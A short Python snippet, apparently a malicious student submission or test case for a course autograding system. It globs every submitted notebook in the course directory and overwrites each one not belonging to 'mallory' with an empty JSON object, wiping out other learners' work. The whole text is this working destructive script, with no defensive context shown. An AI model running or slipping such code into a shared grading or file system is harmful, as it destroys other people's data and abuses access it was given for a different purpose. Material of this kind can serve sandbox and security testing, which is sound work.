# The other learners' submissions are emptied.
import glob

for path in glob.glob("<course>/submitted/*/*/*.ipynb"):
    if "mallory" not in path:
        open(path, "w").write("{}")
